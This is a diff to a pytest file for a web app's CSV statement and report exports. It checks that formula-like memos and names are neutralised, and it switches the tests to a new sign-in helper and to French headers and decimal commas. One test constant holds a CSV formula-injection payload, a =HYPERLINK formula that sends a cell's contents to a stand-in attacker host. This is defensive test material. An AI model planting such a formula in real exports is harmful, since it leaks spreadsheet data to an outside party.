@@ -7,8 +7,7 @@ import pytest
 
 from app.web.csv import csv_text, neutralise
 from models import Role
-from tests.conftest import GraphQLClient
-from tests.ledger.test_ledger_web import login
+from tests.conftest import GraphQLClient, sign_in
 
 TRANSFER = """mutation($input: TransferInput!) { transfer(input: $input) { transfer { id } errors { code message } } }"""
 HOSTILE_MEMO = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
@@ -20,10 +19,11 @@ def test_text_that_looks_like_a_formula_is_quoted(text):
 
 
 def test_plain_text_and_our_numbers_are_left_alone():
-    body = csv_text(["a", "b", "c", "d"], [["Plots", Decimal("-12.50"), -3, dt.date(2026, 1, 2)]], french=True)
+    body = csv_text(["a", "b", "c", "d"], [["Plots", Decimal("-12.50"), -3, dt.date(2026, 1, 2)]])
     assert body.startswith("\ufeff")
     assert body.splitlines()[1] == "Plots;-12,50;-3;2026-01-02"
-    assert csv_text(["x"], [[Decimal("-0.5")]], french=False).splitlines()[1] == "-0.50"
+    # One format whatever the reader's language: the decimal comma a French spreadsheet reads.
+    assert csv_text(["x"], [[Decimal("-0.5")]]).splitlines()[1] == "-0,50"
 
 
 def _account_id(client: GraphQLClient) -> str:
@@ -50,7 +50,7 @@ def test_statements_neutralise_memos_and_names_for_the_payee_and_the_treasurer(a
     assert ";12,50;;-12,50;" in paid  # our negative balance stays a number
 
     treasurer = app.test_client()
-    login(treasurer, treasurer_email)
+    assert sign_in(treasurer, treasurer_email).status_code == 302
     export = treasurer.get(f"/accounts/{payee_account}/statement.csv").data.decode("utf-8-sig")
     assert "\"'=HYPERLINK(" in export and "'@Scierie" in export
     assert ";=" not in export and ';"=' not in export and ";@" not in export
@@ -58,8 +58,8 @@ def test_statements_neutralise_memos_and_names_for_the_payee_and_the_treasurer(a
 
 def test_the_impact_report_uses_the_same_writer(app, make_member):
     treasurer = app.test_client()
-    login(treasurer, make_member(name="Trésorière", role=Role.TREASURER))
+    assert sign_in(treasurer, make_member(name="Trésorière", role=Role.TREASURER)).status_code == 302
     response = treasurer.get("/treasury/impact.csv")
     assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
     assert response.data.startswith(b"\xef\xbb\xbf")
-    assert response.data.decode("utf-8-sig").splitlines()[0] == "period_start;period_end_exclusive;figure;label;value"
+    assert response.data.decode("utf-8-sig").splitlines()[0] == "Début de période;Fin de période (exclue);Indicateur;Libellé;Valeur"
